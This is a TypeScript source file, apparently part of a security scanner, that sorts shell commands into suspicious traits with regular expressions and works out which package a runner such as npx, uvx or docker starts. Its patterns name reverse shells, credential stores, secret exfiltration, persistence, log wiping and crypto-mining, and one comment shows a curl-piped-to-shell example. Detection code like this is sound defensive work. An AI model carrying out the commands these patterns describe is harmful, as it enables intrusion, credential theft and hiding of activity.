@@ -1,0 +1,360 @@
+/**
+ * What a command line does, as far as its text says: which package a runner starts, and whether it downloads
+ * and runs, decodes and runs, opens a shell to the outside, stays behind, or takes credentials along.
+ *
+ *   npx -y @scope/server@1.2.3 --flag     { runner: "npx", name: "@scope/server", version: "1.2.3" }
+ *   curl -s https://x.io/a | sh           [{ what: "download-and-run", text: "curl -s https://x.io/a | sh" }]
+ *
+ * Texts of shells are recognised by form, not parsed. Each form is linear.
+ */
+import type { PlacedText } from "./types.js";
+
+export type TraitKind =
+  | "download-and-run"
+  | "decode-and-run"
+  | "reverse-shell"
+  | "persistence"
+  | "credentials"
+  | "environment"
+  | "cover-up"
+  | "mining";
+
+export interface Trait {
+  readonly what: TraitKind;
+  /** The part of the text that shows it. */
+  readonly text: string;
+  /** A well-known project's own way of installing, over https. */
+  readonly known?: boolean;
+}
+
+const FETCH = String.raw`(?:curl|wget|Invoke-WebRequest|iwr|Invoke-RestMethod|irm)\b[^|;&\n]{0,400}`;
+const SHELL = String.raw`(?:sudo\s+(?:-\S+\s+)*)?(?:[\w/]*/)?(?:(?:ba|z|da|k|a)?sh|python[\d.]*|node|perl|ruby|php|bun|deno|iex|Invoke-Expression|osascript)\b(?!\s+\S+\.(?:sh|py|js)\b)`;
+const form = (source: string): RegExp => new RegExp(source, "i");
+const STORES = String.raw`(?:\.ssh/(?:id_\w+|\*|$|["'\s])|\.aws/credentials|\.gnupg|\.netrc|\.git-credentials|\.docker/config\.json|\.kube/config|gcloud/(?:credentials|application_default)|/etc/shadow|login\.keychain|Login Data|wallet\.dat|\.npmrc)`;
+
+const FORMS: readonly (readonly [TraitKind, RegExp])[] = [
+  [
+    "download-and-run",
+    form(String.raw`\b${FETCH}\|\s*(?:tac\s*\||tr\s[^|]{0,60}\||gunzip[^|]{0,20}\|)?\s*${SHELL}`),
+  ],
+  [
+    "download-and-run",
+    form(
+      String.raw`(?:^|[\s;&|"'(])(?:(?:ba|z|da)?sh|source|\.|eval|python[\d.]*|node)\s+(?:-\w+\s+)?["']?(?:<\(|\$\(|` +
+        "`" +
+        String.raw`)\s*${FETCH}`,
+    ),
+  ],
+  [
+    "download-and-run",
+    form(
+      String.raw`\b(?:iex|Invoke-Expression)\b[^\n]{0,80}(?:DownloadString|Invoke-WebRequest|iwr|irm|Invoke-RestMethod|https?://)`,
+    ),
+  ],
+  [
+    "download-and-run",
+    form(
+      String.raw`\b(?:curl|wget)\b[^\n]{0,300}(?:-o|-O|--output|>)\s*(?<file>["']?[\w./~$-]+)[^\n]{0,200}(?:&&|;)\s*(?:sudo\s+)?(?:chmod\s[^\n;&]{0,80}(?:&&|;)\s*(?:sudo\s+)?)(?:(?:ba)?sh\s+|nohup\s+)?\.?/?[\w./~$-]+`,
+    ),
+  ],
+  [
+    "download-and-run",
+    form(
+      String.raw`\b(?:mshta|regsvr32[^\n]{0,40}/i:|rundll32[^\n]{0,60}|msiexec[^\n]{0,40}/i)\s*"?https?://`,
+    ),
+  ],
+  ["download-and-run", form(String.raw`\b(?:certutil[^\n]{0,40}-urlcache|bitsadmin[^\n]{0,40}/transfer)\b`)],
+  [
+    "download-and-run",
+    form(
+      String.raw`\b(?:python[\d.]*|node|ruby|perl)\s+-[ce]\s[^\n]{0,80}(?:urlopen|requests\.get|fetch\(|https?\.get)[^\n]{0,200}(?:exec|eval|Function)`,
+    ),
+  ],
+  [
+    "download-and-run",
+    form(
+      String.raw`\b(?:python[\d.]*|node|ruby|perl)\s+-[ce]\s[^\n]{0,80}(?:exec|eval|Function)\s*\([^\n]{0,200}(?:urlopen|requests\.get|fetch\(|https?\.get)`,
+    ),
+  ],
+  [
+    "decode-and-run",
+    form(String.raw`\bbase64\s+(?:-d|-D|--decode)\b[^|;&\n]{0,200}\|\s*(?:gunzip\s*\|\s*)?${SHELL}`),
+  ],
+  [
+    "decode-and-run",
+    form(
+      String.raw`\b(?:eval|(?:ba|z)?sh\s+-c)\s+["']?(?:\$\(|` +
+        "`" +
+        String.raw`)[^\n]{0,400}\bbase64\s+(?:-d|-D|--decode)`,
+    ),
+  ],
+  [
+    "decode-and-run",
+    form(String.raw`\bpowershell(?:\.exe)?\b[^\n]{0,100}\s-e(?:nc|ncodedcommand)?\s+[A-Za-z0-9+/=]{20,}`),
+  ],
+  [
+    "decode-and-run",
+    form(
+      String.raw`\b(?:python[\d.]*|node|perl|ruby)\s+-[ce]\s[^\n]{0,120}(?:exec|eval)\s*\([^\n]{0,120}(?:b64decode|atob|base64)`,
+    ),
+  ],
+  ["decode-and-run", form(String.raw`\bxxd\s+-r\b[^|\n]{0,60}\|\s*${SHELL}`)],
+  ["reverse-shell", form(String.raw`/dev/(?:tcp|udp)/[\w.$\{\}-]+/[\w$\{\}]+`)],
+  [
+    "reverse-shell",
+    form(
+      String.raw`\b(?:nc|ncat|netcat)(?:\.\w+)?\s[^|;\n]{0,120}(?:-\w*[ec]\w*\s+["']?(?:/bin/|cmd|powershell)|--(?:sh-)?exec\b)`,
+    ),
+  ],
+  ["reverse-shell", form(String.raw`\bmkfifo\b[^\n]{0,200}\b(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b`)],
+  ["reverse-shell", form(String.raw`\bsocat\b[^\n]{0,200}\bexec:`)],
+  ["reverse-shell", form(String.raw`\bsocket\b[^\n]{0,300}(?:dup2|pty\.spawn)`)],
+  ["reverse-shell", form(String.raw`\bNet\.Sockets\.TCPClient\b`)],
+  [
+    "persistence",
+    form(String.raw`\|\s*crontab\b|\bcrontab\s+(?!-[lu]\b)\S|/etc/cron(?:tab|\.\w+)\b|/var/spool/cron`),
+  ],
+  [
+    "persistence",
+    form(
+      String.raw`(?:>>?|\btee\s+(?:-a\s+)?)\s*["']?[^\s;|&]{0,80}(?:\.bashrc|\.zshrc|\.zprofile|\.bash_profile|\.profile|authorized_keys|/etc/rc\.local|/etc/profile)`,
+    ),
+  ],
+  [
+    "persistence",
+    form(String.raw`\blaunchctl\s+(?:load|bootstrap|submit)\b|Library/Launch(?:Agents|Daemons)/`),
+  ],
+  [
+    "persistence",
+    form(
+      String.raw`\bsystemctl\s+(?:--user\s+)?enable\b|/etc/systemd/system/|\.config/systemd/user/|\.config/autostart/`,
+    ),
+  ],
+  [
+    "persistence",
+    form(
+      String.raw`\bschtasks(?:\.exe)?\s+/create\b|\breg(?:\.exe)?\s+add\b[^\n]{0,200}\\Run(?:Once)?\b|\\Start Menu\\Programs\\Startup`,
+    ),
+  ],
+  [
+    "credentials",
+    form(
+      String.raw`\b(?:cat|cp|scp|tar|zip|type|base64|xxd|grep|curl|wget|rsync|Get-Content)\b[^\n]{0,200}${STORES}`,
+    ),
+  ],
+  [
+    "credentials",
+    form(
+      String.raw`\bsecurity\s+(?:dump-keychain|find-(?:generic|internet)-password)\b|\bmimikatz\b|\bvaultcmd\b|\bsecretsdump\b`,
+    ),
+  ],
+  [
+    "environment",
+    form(String.raw`\b(?:env|printenv|export\s+-p|set)\s*\|[^\n]{0,100}\b(?:curl|wget|nc|ncat|base64)\b`),
+  ],
+  [
+    "environment",
+    form(
+      String.raw`\b(?:curl|wget)\b[^\n]{0,300}(?:-d|--data\S*|-F|--form|--post-data|-T|--upload-file)[ =]?["']?[^\n]{0,60}(?:\$\((?:env|printenv|export)|` +
+        "`(?:env|printenv)`" +
+        String.raw`|@[^\s"']{0,80}(?:\.env|\.npmrc|\.ssh|\.aws)\b|\$(?:\{)?(?:NPM_TOKEN|GITHUB_TOKEN|AWS_SECRET\w*|NODE_AUTH_TOKEN))`,
+    ),
+  ],
+  [
+    "environment",
+    form(
+      String.raw`\b(?:curl|wget|nslookup|dig|ping)\b[^\n]{0,200}\$\((?:whoami|hostname|id|env|printenv|uname)\b`,
+    ),
+  ],
+  [
+    "cover-up",
+    form(
+      String.raw`(?:^|[;&|"']\s*)history\s+-c\b|\bunset\s+HISTFILE\b|\bHISTFILE=/dev/null|\bHISTSIZE=0\b|\bwevtutil\s+cl\b|\bClear-EventLog\b`,
+    ),
+  ],
+  [
+    "cover-up",
+    form(
+      String.raw`(?:\brm\s+(?:-\w+\s+)*|\bshred\s+(?:-\w+\s+)*|\btruncate\s+[^\n]{0,20}|(?:^|[;&|]\s*|\s):?\s*>\s*)["']?(?:/var/log/|[^\s;|&]{0,60}_history\b)`,
+    ),
+  ],
+  [
+    "mining",
+    form(
+      String.raw`stratum\+(?:tcp|ssl)://|\bxmrig\b|\bminerd\b|\bcpuminer\b|--donate-level|\bcryptonight\b`,
+    ),
+  ],
+];
+
+/** Installers that projects tell their users to run. */
+const KNOWN_INSTALLERS =
+  /https:\/\/(?:astral\.sh\/(?:uv|ruff)|sh\.rustup\.rs|deb\.nodesource\.com|rpm\.nodesource\.com|bun\.(?:sh|com)\/install|deno\.land\/|get\.docker\.com|install\.python-poetry\.org|get\.pnpm\.io|fnm\.vercel\.app|get\.volta\.sh|raw\.githubusercontent\.com\/(?:nvm-sh|Homebrew|helm|rustup|ohmyzsh|k3d-io)\/|get\.helm\.sh|cli\.github\.com|dl\.google\.com|packages\.microsoft\.com|aka\.ms\/|bootstrap\.pypa\.io|pypi\.org|claude\.ai\/install|fly\.io\/install|get\.sdkman\.io|mise\.run|mise\.jdx\.dev|starship\.rs|sentry\.io\/get-cli|download\.docker\.com|taskfile\.dev|just\.systems|dl\.yarnpkg\.com|yarnpkg\.com\/install|apt\.postgresql\.org|download\.pytorch\.org|cursor\.com\/install|ollama\.(?:com|ai)\/install|pkgx\.sh|get\.scoop\.sh|community\.chocolatey\.org|install\.duckdb\.org)/i;
+
+const MAX_TEXT = 20_000;
+
+/** What a shell text does that few honest ones do. */
+export function traitsOf(command: string): readonly Trait[] {
+  const text = command.slice(0, MAX_TEXT).replace(/\\\r?\n/g, " ");
+  const out: Trait[] = [];
+  for (const [what, pattern] of FORMS) {
+    const match = pattern.exec(text);
+    if (match === null || out.some((each) => each.what === what)) continue;
+    const known = what === "download-and-run" && KNOWN_INSTALLERS.test(match[0]);
+    out.push({ what, text: match[0].trim(), ...(known ? { known } : {}) });
+  }
+  return out;
+}
+
+/** A package that a command fetches and starts. */
+export interface PackageRun {
+  readonly runner: string;
+  readonly ecosystem: "npm" | "pypi" | "image" | "git";
+  readonly name: string;
+  /** "" when none is given. */
+  readonly version: string;
+  readonly at: PlacedText["at"];
+}
+
+const NPM_RUNNERS = /^(?:npx|bunx|pnpx|npm|pnpm|yarn|bun|deno)$/;
+const PYTHON_RUNNERS = /^(?:uvx|pipx|uv)$/;
+const IMAGE_RUNNERS = /^(?:docker|podman|nerdctl)$/;
+/** Options of runners that take a value of their own. */
+const WITH_VALUE =
+  /^(?:-p|--package|--python|--with|--index-url|--directory|--project|--registry|--cache|-c|--call|-w|--workspace|-e|--env|-v|--volume|--mount|--name|--network|--net|-u|--user|--entrypoint|--env-file|-h|--hostname|--platform|--memory|-m|--cpus|--add-host|--pull|--label|-l|--workdir|--publish|--cap-add|--cap-drop|--security-opt|--gpus|--device|--spec|--index|--extra-index-url|--python-preference|--tmpfs|--dns|--restart|--ipc|--pid)$/;
+
+/** The package that a configured command starts, seen through `cmd /c`, `env` and the like. */
+export function packageRunOf(
+  command: PlacedText | undefined,
+  args: readonly PlacedText[],
+): PackageRun | undefined {
+  if (command === undefined) return undefined;
+  const words = [command, ...args].flatMap(splitFirst);
+  let at = 0;
+  while (at < words.length && isWrapper(words, at)) at++;
+  const runner = baseName(words[at]?.text ?? "");
+  const rest = words.slice(at + 1);
+  if (NPM_RUNNERS.test(runner)) return npmRun(runner, rest);
+  if (PYTHON_RUNNERS.test(runner)) return pythonRun(runner, rest);
+  return IMAGE_RUNNERS.test(runner) ? imageRun(runner, rest) : undefined;
+}
+
+/** A command that was written as one line counts word by word. */
+function splitFirst(word: PlacedText, index: number): PlacedText[] {
+  if (index !== 0 || !/\s/.test(word.text.trim()) || /[\\/]/.test(word.text.split(/\s/)[0] ?? ""))
+    return [word];
+  return word.text
+    .trim()
+    .split(/\s+/)
+    .map((text) => ({ text, at: word.at }));
+}
+
+function isWrapper(words: readonly PlacedText[], at: number): boolean {
+  const word = baseName(words[at]?.text ?? "");
+  const before = baseName(words[at - 1]?.text ?? "");
+  if (/^(?:cmd|env|wsl|sudo|command|exec|nohup|time)$/.test(word)) return true;
+  return (
+    at > 0 &&
+    (/^\/[ck]$/i.test(words[at]?.text ?? "") || (before === "env" && /^\w+=/.test(words[at]?.text ?? "")))
+  );
+}
+
+export function baseName(path: string): string {
+  return path
+    .slice(Math.max(path.lastIndexOf("/"), path.lastIndexOf("\\")) + 1)
+    .replace(/\.(?:exe|cmd|bat|ps1)$/i, "");
+}
+
+function npmRun(runner: string, words: readonly PlacedText[]): PackageRun | undefined {
+  let rest = words;
+  const sub = rest[0]?.text ?? "";
+  if (/^(?:npm|pnpm|yarn|bun)$/.test(runner)) {
+    if (!/^(?:exec|x|dlx|create|init)$/.test(sub)) return undefined;
+    rest = rest.slice(1);
+  } else if (runner === "deno") {
+    const target = rest.find((word) => /^(?:npm|jsr):/.test(word.text));
+    return target && npmSpec(runner, { ...target, text: target.text.replace(/^\w+:\/?/, "") });
+  }
+  const explicit = optionValue(rest, /^(?:-p|--package)$/);
+  const spec = explicit ?? firstOperand(rest);
+  return spec === undefined ? undefined : npmSpec(runner, spec);
+}
+
+function npmSpec(runner: string, { text, at }: PlacedText): PackageRun | undefined {
+  if (/^(?:git\+|github:|gitlab:|bitbucket:|https?:)|^[\w-]+\/[\w.-]+(?:#.*)?$/.test(text)) {
+    const [name = "", version = ""] = text.split("#");
+    return { runner, ecosystem: "git", name, version, at };
+  }
+  if (/^[./~$\\]|^file:|^[A-Za-z]:\\/.test(text) || text === "") return undefined;
+  const split = text.indexOf("@", 1);
+  const name = split < 0 ? text : text.slice(0, split);
+  return /^(?:@[\w.-]+\/)?[\w.-]+$/.test(name)
+    ? { runner, ecosystem: "npm", name, version: split < 0 ? "" : text.slice(split + 1), at }
+    : undefined;
+}
+
+function pythonRun(runner: string, words: readonly PlacedText[]): PackageRun | undefined {
+  let rest = words;
+  if (runner === "pipx" || runner === "uv") {
+    const sub = rest[0]?.text;
+    if (sub === "tool" && rest[1]?.text === "run") rest = rest.slice(2);
+    else if (runner === "pipx" && sub === "run") rest = rest.slice(1);
+    else {
+      // `uv run` starts what is there already, but `--with` brings a package along.
+      const extra = runner === "uv" && sub === "run" ? optionValue(rest, /^--with$/) : undefined;
+      return extra && pythonSpec(runner, extra);
+    }
+  }
+  const spec = optionValue(rest, /^(?:--from|--spec)$/) ?? firstOperand(rest);
+  return spec === undefined ? undefined : pythonSpec(runner, spec);
+}
+
+function pythonSpec(runner: string, { text, at }: PlacedText): PackageRun | undefined {
+  const git = /^(?:[\w.-]+\s*@\s*)?(git\+\S+|https?:\S+)$/.exec(text)?.[1];
+  if (git !== undefined) {
+    const [, name = git, version = ""] = /^(.*?[^@/]\/[^@]*?)(?:@([^@#]+))?(?:#.*)?$/.exec(git) ?? [];
+    return { runner, ecosystem: "git", name, version, at };
+  }
+  const [, name, version = ""] =
+    /^([A-Za-z0-9][\w.-]*)(?:\[[^\]]*\])?(?:[=@]=?=?(.*)|[<>~!].*)?$/.exec(text) ?? [];
+  return name === undefined
+    ? undefined
+    : { runner, ecosystem: "pypi", name, version: version || (/[<>~!]/.exec(text)?.[0] ?? ""), at };
+}
+
+function imageRun(runner: string, words: readonly PlacedText[]): PackageRun | undefined {
+  const sub = words.findIndex((word) => /^(?:run|create)$/.test(word.text));
+  if (sub < 0) return undefined;
+  const image = firstOperand(words.slice(sub + 1));
+  if (image === undefined || /^[$%]/.test(image.text)) return undefined;
+  return { runner, ecosystem: "image", ...splitImage(image.text), at: image.at };
+}
+
+/** `host:5000/name:tag@sha256:...` in its name and what pins it. */
+export function splitImage(image: string): { readonly name: string; readonly version: string } {
+  const digest = image.indexOf("@");
+  if (digest >= 0) return { name: image.slice(0, digest), version: image.slice(digest + 1) };
+  const colon = image.indexOf(":", image.lastIndexOf("/") + 1);
+  return colon < 0
+    ? { name: image, version: "" }
+    : { name: image.slice(0, colon), version: image.slice(colon + 1) };
+}
+
+function optionValue(words: readonly PlacedText[], name: RegExp): PlacedText | undefined {
+  for (const [index, word] of words.entries()) {
+    const equals = word.text.indexOf("=");
+    if (equals > 0 && name.test(word.text.slice(0, equals)))
+      return { ...word, text: word.text.slice(equals + 1) };
+    if (name.test(word.text)) return words[index + 1];
+  }
+  return undefined;
+}
+
+function firstOperand(words: readonly PlacedText[]): PlacedText | undefined {
+  for (let i = 0; i < words.length; i++) {
+    const word = words[i];
+    if (word === undefined || word.text === "--") continue;
+    if (!word.text.startsWith("-")) return word;
+    if (WITH_VALUE.test(word.text)) i++;
+  }
+  return undefined;
+}
